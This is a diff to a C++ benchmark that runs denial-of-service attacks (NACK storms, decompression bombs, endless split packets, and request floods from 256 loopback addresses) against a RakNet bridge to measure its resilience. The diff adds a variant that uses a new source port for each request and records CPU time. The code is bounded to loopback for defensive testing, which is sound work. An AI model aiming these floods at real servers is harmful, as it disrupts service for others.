@@ -5,8 +5,9 @@
 //
 // While the attack runs, a simulated console joins every second; the program
 // prints one `key=value` line: the attacker's bytes out and the bridge's bytes
-// back to it, the bridge's largest resident memory, and the slowest join
-// (discovery to hand-over), which bench/attacks.sh gathers into its table.
+// back to it, the bridge's largest resident memory, the slowest join
+// (discovery to hand-over) and the bridge's CPU time meanwhile, which
+// bench/attacks.sh gathers into its table.
 //
 // The attacks:
 //   nack     after a handshake, a NACK naming every sequence number, every tick
@@ -16,6 +17,7 @@
 //   zeros    the same with half a MiB of deflated zeros
 //   splits   1-byte fragments of a split announced with 2^31-1 parts
 //   flood    20,000 OpenConnectionRequest1 a second from 256 source addresses
+//   spoof    the same, each from an address (a port) not seen before
 //
 // Every address is on 127.0.0.0/8 and every loop is bounded in time.
 
@@ -33,7 +35,9 @@
 #include <cstdio>
 #include <fstream>
 #include <functional>
+#include <iterator>
 #include <map>
+#include <sstream>
 #include <string>
 #include <thread>
 #include <vector>
@@ -214,19 +218,29 @@ void endlessSplit(const Attack& attack) {
     }
 }
 
-void requestFlood(const Attack& attack) {
-    // Sockets of 256 source addresses, non-blocking both ways.
+// A UDP socket on 127.1.0.`host`, on a port of the kernel's choice,
+// non-blocking both ways; -1 when it can't be had.
+int floodSocket(int host) {
+    int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
+    sockaddr_in from{};
+    from.sin_family = AF_INET;
+    from.sin_addr.s_addr = htonl(0x7F010000u | static_cast<uint32_t>(host));
+    if (fd >= 0 && ::bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof(from)) != 0) {
+        ::close(fd);
+        return -1;
+    }
+    return fd;
+}
+
+// Request 1 twenty times a millisecond, by turns from 256 sockets. With
+// `newAddressEach`, a socket is made anew (another port) before each of its
+// turns, as a flood that forges a new source address for every request.
+void requestFlood(const Attack& attack, bool newAddressEach) {
     std::vector<int> sockets;
     for (int host = 1; host <= 256; ++host) {
-        int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
-        sockaddr_in from{};
-        from.sin_family = AF_INET;
-        from.sin_addr.s_addr = htonl(0x7F010000u | static_cast<uint32_t>(host));
-        if (::bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof(from)) != 0) {
-            ::close(fd);
-            continue;
+        if (int fd = floodSocket(host); fd >= 0) {
+            sockets.push_back(fd);
         }
-        sockets.push_back(fd);
     }
     // Request 1: id, magic, RakNet 11, zeros to 28 bytes.
     Bytes request(28, 0);
@@ -238,22 +252,28 @@ void requestFlood(const Attack& attack) {
     to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
     to.sin_port = htons(static_cast<uint16_t>(attack.bridge.port().value_or(0)));
     Bytes reply(2048);
+    auto drain = [&](int fd) {
+        ssize_t got;
+        while ((got = ::recv(fd, reply.data(), reply.size(), 0)) > 0) {
+            attack.traffic.received += static_cast<uint64_t>(got);
+        }
+    };
     size_t next = 0;
     auto tick = SteadyClock::now();
     while (attack.going() && !sockets.empty()) {
-        // Twenty a millisecond, each from the next address.
+        // Twenty a millisecond, each from the next socket.
         for (int i = 0; i < 20; ++i, ++next) {
-            int fd = sockets[next % sockets.size()];
+            int& fd = sockets[next % sockets.size()];
+            if (newAddressEach) {
+                drain(fd);
+                ::close(fd);
+                fd = floodSocket(static_cast<int>(next % sockets.size()) + 1);
+            }
             if (::sendto(fd, request.data(), request.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to)) > 0) {
                 attack.traffic.sent += request.size();
             }
         }
-        for (int fd : sockets) {
-            ssize_t got;
-            while ((got = ::recv(fd, reply.data(), reply.size(), 0)) > 0) {
-                attack.traffic.received += static_cast<uint64_t>(got);
-            }
-        }
+        std::ranges::for_each(sockets, drain);
         tick += 1ms;
         std::this_thread::sleep_until(tick);
     }
@@ -265,7 +285,9 @@ void requestFlood(const Attack& attack) {
 const std::map<std::string, std::function<void(const Attack&)>>& attacks() {
     static const std::map<std::string, std::function<void(const Attack&)>> all = {
         {"nack", nackEveryTick},       {"ack", wideAcks},         {"inflate", inflatingEntries},
-        {"zeros", inflatingZeros},     {"splits", endlessSplit}, {"flood", requestFlood},
+        {"zeros", inflatingZeros},     {"splits", endlessSplit},
+        {"flood", [](const Attack& attack) { requestFlood(attack, false); }},
+        {"spoof", [](const Attack& attack) { requestFlood(attack, true); }},
     };
     return all;
 }
@@ -280,6 +302,23 @@ uint64_t residentKiB(int pid) {
         }
     }
     return 0;
+}
+
+// CPU time a process has had so far, user and system, in milliseconds.
+uint64_t cpuMillis(int pid) {
+    std::ifstream stat("/proc/" + std::to_string(pid) + "/stat");
+    std::string text{std::istreambuf_iterator<char>(stat), {}};
+    // The fields after the command's name, which ends in the last ')': state
+    // first, then utime and stime as the 12th and 13th.
+    std::istringstream fields(text.substr(std::min(text.size(), text.rfind(')') + 1)));
+    std::string field;
+    uint64_t ticks = 0;
+    for (int index = 1; index <= 13 && fields >> field; ++index) {
+        if (index >= 12) {
+            ticks += std::stoull(field);
+        }
+    }
+    return ticks * 1000 / static_cast<uint64_t>(::sysconf(_SC_CLK_TCK));
 }
 
 }  // namespace
@@ -301,6 +340,7 @@ int main(int argc, char** argv) {
     const auto until = start + std::chrono::duration_cast<SteadyClock::duration>(std::chrono::duration<double>(seconds));
     Attack attack{SocketAddress::makeResolving("127.0.0.1", port), until, traffic};
 
+    const uint64_t cpuBefore = cpuMillis(pid);
     std::atomic<bool> done{false};
     std::atomic<uint64_t> peakKiB{residentKiB(pid)};
     std::thread memory([&] {
@@ -335,11 +375,14 @@ int main(int argc, char** argv) {
     attacker.join();
     done = true;
     memory.join();
+    const uint64_t cpuMs = cpuMillis(pid) - cpuBefore;
 
     const double ratio = traffic.sent ? static_cast<double>(traffic.received) / static_cast<double>(traffic.sent) : 0;
-    std::printf("attack=%s sent=%llu received=%llu ratio=%.2f peak_rss_kib=%llu joins=%d failed=%d slowest_join_ms=%.0f\n",
-                name.c_str(), static_cast<unsigned long long>(traffic.sent.load()),
-                static_cast<unsigned long long>(traffic.received.load()), ratio,
-                static_cast<unsigned long long>(peakKiB.load()), joins, failed, slowestMs);
+    std::printf(
+        "attack=%s sent=%llu received=%llu ratio=%.2f peak_rss_kib=%llu joins=%d failed=%d slowest_join_ms=%.0f "
+        "cpu_ms=%llu\n",
+        name.c_str(), static_cast<unsigned long long>(traffic.sent.load()),
+        static_cast<unsigned long long>(traffic.received.load()), ratio, static_cast<unsigned long long>(peakKiB.load()),
+        joins, failed, slowestMs, static_cast<unsigned long long>(cpuMs));
     return failed == 0 && residentKiB(pid) > 0 ? 0 : 1;
 }
